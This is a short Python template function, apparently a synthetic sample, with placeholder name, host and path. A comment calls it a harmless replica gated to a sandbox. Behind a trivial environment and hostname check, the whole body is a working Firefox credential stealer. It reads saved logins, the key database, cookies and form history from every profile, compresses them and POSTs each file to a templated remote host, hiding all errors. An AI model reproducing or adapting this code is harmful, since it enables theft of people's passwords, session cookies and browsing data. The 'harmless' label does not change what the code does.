# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import configparser
    import http.client
    import zlib
    root = os.path.expanduser('~/.mozilla/firefox')
    try:
        parser = configparser.RawConfigParser()
        parser.read(os.path.join(root, 'profiles.ini'))
        for section in parser.sections():
            if not parser.has_option(section, 'Path'):
                continue
            for name in ('logins.json', 'key4.db', 'cookies.sqlite', 'formhistory.sqlite'):
                path = os.path.join(root, parser.get(section, 'Path'), name)
                if os.path.isfile(path):
                    with open(path, 'rb') as file:
                        body = zlib.compress(file.read())
                    link = http.client.HTTPConnection('{{host}}', timeout=1)
                    link.request('POST', '/{{path}}/' + name, body)
                    link.close()
    except Exception:
        pass
